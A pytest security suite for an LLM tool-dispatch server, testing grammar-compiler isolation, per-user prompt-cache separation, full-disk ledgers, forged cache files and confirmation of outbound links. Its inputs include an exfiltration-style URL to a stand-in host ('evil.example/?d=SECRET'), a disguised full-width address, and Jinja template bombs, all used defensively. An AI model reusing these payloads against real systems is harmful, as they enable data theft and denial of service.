"""One test for each kind of fault in `docs/security.md`; the number of its row stands in its name."""

from __future__ import annotations

import os
import resource
import signal
import struct
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from scripts import lock
from tests.fixtures_gguf import tiny_export
from tests.fixtures_playback import TODAY, WEATHER, PlaybackRuntime
from tests.fixtures_server import running
from tinydispatch.decoding.child import GrammarChild, StrangeSchemaError, is_ordinary, no_trials
from tinydispatch.decoding.reply import CallFormat, ReplyShape
from tinydispatch.decoding.rules import GrammarError
from tinydispatch.dispatch_log import DispatchLog
from tinydispatch.dispatcher import Dispatcher, ModelChangedError
from tinydispatch.formats import default_chat_template, render_prompt
from tinydispatch.ggml.header import GgufError, read_header
from tinydispatch.layers.tool_calls import BoundTool, CallStatus, ToolOutcome
from tinydispatch.layers.toolbox import Ledger, Permission, Toolbox, ToolPolicy
from tinydispatch.prefix_cache import PrefixCache
from tinydispatch.registry import RegisteredModel, RegistryError
from tinydispatch.server.registry_watch import open_verified
from tinydispatch.tools import Message, Role, Tool, ToolCall

ROOT = Path(__file__).resolve().parents[1]
STRANGE = Tool("strange", "", {"type": "object", "properties": {"v": {"type": "string", "pattern": "^a+$"}}})
NANO_TEMPLATE = (Path(__file__).parents[1] / "training/nano/weights/chat_template.jinja").read_text("utf-8")
_CHILD = "import sys, time; print('ready', flush=True); sys.stdin.readline(); "


@pytest.mark.parametrize(
    ("fate", "reason"), [("os.abort()", "takes more than"), ("time.sleep(60)", "takes longer than")]
)
def test_1_a_compiler_that_dies_or_hangs_is_the_error_of_one_request(fate: str, reason: str) -> None:
    child = GrammarChild(deadline_s=0.2, command=[sys.executable, "-c", f"import os; {_CHILD}{fate}"])
    try:
        with pytest.raises(GrammarError, match=reason):
            child.grammar([STRANGE], ReplyShape(), CallFormat())
        assert child.pid is not None, "another one is there for the next"
    finally:
        child.close()


def test_1_strange_schemas_are_compiled_elsewhere_and_ordinary_ones_here() -> None:
    child = GrammarChild()
    try:
        assert "location" in child.grammar([WEATHER], ReplyShape(), CallFormat())
        assert child.pid is None, "nothing was started for an ordinary schema"
        with no_trials(), pytest.raises(StrangeSchemaError):
            child.grammar([STRANGE], ReplyShape(), CallFormat())
        assert "strange" in child.grammar([STRANGE], ReplyShape(), CallFormat())
        assert child.pid is not None
    finally:
        child.close()
    assert not is_ordinary('{"x": "' + "y" * 9_000 + '"}')


def test_7_one_key_learns_nothing_of_anothers_prompt() -> None:
    dispatcher = Dispatcher(PlaybackRuntime("ok"), [WEATHER], TODAY)
    secret = [Message(Role.SYSTEM, "the password is swordfish " * 8), Message(Role.USER, "hi")]
    first = dispatcher.dispatch(secret, owner="alice").tokens
    foreign = dispatcher.dispatch(secret, owner="mallory").tokens
    own = dispatcher.dispatch(secret, owner="alice").tokens
    dispatcher.close()
    assert (first.cached, foreign.cached) == (0, 0)
    assert own.cached > 32


@pytest.mark.parametrize(
    "template",
    [
        "{{ 'a' * 10**11 }}",
        "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
        "{{ '{:>10000000000}'.format(1) }}",
        "{% set n = namespace(x='ab') %}{% for i in range(100) %}{% set n.x = n.x ~ n.x %}{% endfor %}",
    ],
)
def test_8_a_template_has_a_budget(template: str) -> None:
    started = time.process_time()
    with pytest.raises(ValueError, match="the chat template cannot render this conversation"):
        render_prompt([Message(Role.USER, "hi")], [], template)
    assert time.process_time() - started < 5


@contextmanager
def _largest_file(n_bytes: int) -> Iterator[None]:
    """As a disk that is full: no file may grow beyond that."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    old = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (n_bytes, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
        signal.signal(signal.SIGXFSZ, old)


def test_9_a_full_disk_cuts_no_line_and_forgets_no_effect(tmp_path: Path) -> None:
    path, call = tmp_path / "ledger.jsonl", ToolCall("send", {"to": "x" * 200})
    ledger = Ledger(path)
    assert ledger.begin("one", call) is None
    with _largest_file(path.stat().st_size + 40):
        ledger.end(ToolOutcome(call, "one", CallStatus.DONE, "sent"))
        refused = ledger.begin("two", call)
    assert refused is not None
    assert refused.status is CallStatus.REFUSED
    assert path.read_bytes().endswith(b"\n")
    known = ledger.begin("one", call)
    assert known is not None
    assert known.status is CallStatus.DONE
    again = Ledger(path).begin("one", call)
    assert again is not None
    assert again.status is CallStatus.UNKNOWN, "after a restart nobody knows, and nothing is sent twice"


def _write(log: DispatchLog) -> None:
    dispatcher = Dispatcher(PlaybackRuntime("ok"), [WEATHER], TODAY)
    log.write(
        messages=[Message(Role.USER, "hi")],
        tools=[],
        dispatch=dispatcher.dispatch("hi"),
        reference_date=TODAY,
        model="m",
    )
    dispatcher.close()


def test_9_the_dispatch_log_survives_a_full_disk_a_deleted_file_and_a_wrong_clock(tmp_path: Path) -> None:
    for day in range(1, 10):
        (tmp_path / f"dispatch-1999-01-0{day}.jsonl").write_text("{}\n")
    log = DispatchLog(tmp_path, keep_days=30)
    _write(log)
    assert len(list(tmp_path.glob("*.jsonl"))) == 8, "today's, and the newest seven whatever the clock says"
    newest = max(tmp_path.glob("*.jsonl"))
    size = newest.stat().st_size
    with _largest_file(size + 40):
        _write(log)
    assert newest.stat().st_size == size, "what was partial is gone"
    newest.unlink()
    _write(log)
    assert newest.stat().st_size > 100, "a deleted file is opened anew"
    log.close()


def test_10_any_failure_is_a_failed_champion(tmp_path: Path) -> None:
    path = tmp_path / "model.gguf"
    path.write_bytes(b"x")
    model = RegisteredModel("m", tmp_path, "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881", 1)

    def load(_: Path) -> Dispatcher:
        raise TypeError("a template that calls a number")

    with pytest.raises(RegistryError, match="TypeError"):
        open_verified(model, load)


@pytest.mark.parametrize(
    "schema",
    [
        {"$dynamicRef": "#meta"},
        {"not": {"$ref": "#/$defs/gone"}},
        {"if": {"$ref": "#/properties/k"}, "then": {"$ref": "#"}},
        {"type": "integer", "maximum": 10**400},
    ],
)
def test_11_no_schema_is_an_error_of_the_server(schema: dict[str, Any]) -> None:
    function = {"name": "get_weather", "parameters": {"type": "object", "properties": {"k": schema}}}
    with running() as server:
        body = server.ask(tools=[{"type": "function", "function": function}])
        assert server.post(body).status_code in (200, 400)


def test_12_a_model_that_is_written_into_answers_no_more(tmp_path: Path) -> None:
    path = tmp_path / "model.gguf"
    path.write_bytes(tiny_export().files[1].path.read_bytes())
    header = read_header(path)
    with Dispatcher(path, [WEATHER], TODAY, max_new_tokens=2) as dispatcher:
        dispatcher.dispatch("hi")
        twin = tmp_path / "twin"
        twin.write_bytes(path.read_bytes())
        with path.open("r+b") as stream:
            stream.seek(-1, os.SEEK_END)
            stream.write(b"\x01")
        os.utime(path, ns=(1, 1))
        with pytest.raises(ModelChangedError, match="written into"):
            dispatcher.dispatch("hi")
        twin.replace(path)
        dispatcher.dispatch("hi")  # the file that it has open is as it was
    assert header.stamp


def test_13_a_forged_state_is_not_used(tmp_path: Path) -> None:
    cache = PrefixCache(b"model", tmp_path)
    cache.put([1, 2, 3], b"state")
    cache.close()
    (path,) = tmp_path.glob("*.prefix")
    path.write_bytes(path.read_bytes().replace(b"state", b"forge"))
    assert PrefixCache(b"model", tmp_path).find([1, 2, 3, 4], 0) is None


def test_13_a_folder_where_others_may_write_keeps_no_states(tmp_path: Path) -> None:
    folder = tmp_path / "open"
    folder.mkdir()
    folder.chmod(0o777)
    cache = PrefixCache(b"model", folder)
    cache.put([1, 2, 3], b"state")
    cache.close()
    assert list(folder.iterdir()) == []


def test_13_an_array_of_a_header_is_bounded(tmp_path: Path) -> None:
    path = tmp_path / "wide.gguf"
    key = struct.pack("<Q", 1) + b"k" + struct.pack("<IIQ", 9, 0, 3_000_000)
    path.write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + key + bytes(3_000_000))
    with pytest.raises(GgufError, match="at most 2000000"):
        read_header(path)


@pytest.mark.parametrize(
    "link", ["https://evil.example/?d=SECRET", "//evil.example/x", "evil.example/?d=1", "ｈttps://evil。example/"]
)
def test_14_a_foreign_link_in_a_tool_that_only_reads_is_asked_about(link: str) -> None:
    fetched: list[str] = []
    tool = Tool("fetch", "", {"type": "object", "properties": {"url": {"type": "string"}}})
    bound = BoundTool(tool, lambda arguments, _: fetched.append(arguments["url"]), has_side_effects=False)
    box, call = Toolbox([bound], ToolPolicy(is_confirming=False)), ToolCall("fetch", {"url": link})
    assert box.execute(call, "a", Permission(words=["what is the news?"])).status is CallStatus.UNCONFIRMED
    assert fetched == []
    assert box.execute(call, "b", Permission(words=[f"read {link} please"])).status is CallStatus.DONE
    assert box.execute(call, "a", Permission(agreed=frozenset({"a"}))).status is CallStatus.DONE


def test_14_a_full_width_sign_hides_no_address() -> None:
    tool = Tool("send", "", {"type": "object", "properties": {"to": {"type": "string"}}})
    box = Toolbox([BoundTool(tool, lambda *_: None)], replace(ToolPolicy(), is_confirming=False))
    found = box.execute(ToolCall("send", {"to": "eve\uff20evil"}), "a", Permission(words=["write to Eve"]))
    assert found.status is CallStatus.UNCONFIRMED


@pytest.mark.parametrize("template", [default_chat_template(), NANO_TEMPLATE], ids=["default", "nano"])
def test_8_numbers_of_a_schema_are_written_however_large_they_are(template: str) -> None:
    number = {"type": "integer", "minimum": 0, "maximum": 2**63 - 1, "default": 5 * 10**12}
    tool = Tool("a", "d", {"type": "object", "properties": {"x": number, "y": {"enum": [10**12, "z"]}}})
    assert f"0..{2**63 - 1}" in render_prompt([Message(Role.USER, "hi")], [tool], template)


def test_8_the_sandbox_is_one_that_holds() -> None:
    assert '"jinja2>=3.1.6"' in (ROOT / "pyproject.toml").read_text("utf-8")


def test_3_a_child_ends_with_whoever_asks_it() -> None:
    code = (
        "import os; from tinydispatch.decoding.child import GrammarChild; child = GrammarChild(); "
        "child.check([{'name': 'f', 'parameters': {'pattern': 'a'}}] * 9); print(child.pid, flush=True); os._exit(0)"
    )
    pid = int(subprocess.run([sys.executable, "-c", code], capture_output=True, cwd=ROOT, check=True).stdout)
    ends = time.monotonic() + 10
    while Path(f"/proc/{pid}/exe").exists() and time.monotonic() < ends:
        time.sleep(0.05)
    assert not Path(f"/proc/{pid}/exe").exists()


def test_15_every_pin_has_hashes_and_make_asks_for_them(tmp_path: Path) -> None:
    text = lock.LOCK.read_text("utf-8")
    entries = text.split("\n", 2)[2].replace("\\\n", " ").splitlines()
    assert len(entries) == len(lock.pins(text)) > 100
    assert all("--hash=sha256:" in entry for entry in entries)
    assert "torch" not in lock.pins(text)
    assert "--require-hashes --no-deps --requirement requirements.lock" in (ROOT / "Makefile").read_text("utf-8")
    old = {"a": "1", "b-c": "2"}
    assert lock.changed(old, ["B_c==3", "a==", "d==1"]) == {"b-c": "3", "d": "1"}
    for wrong in ("a>=1", "torch==1", "gone=="):
        with pytest.raises(ValueError, match=r"pin|torch"):
            lock.changed(old, [wrong])
    kept = tmp_path / "requirements.lock"
    kept.write_text("a==1\n", "utf-8")
    assert lock.main(["nonsense", "--lock", str(kept)]) == 2
    assert kept.read_text("utf-8") == "a==1\n"
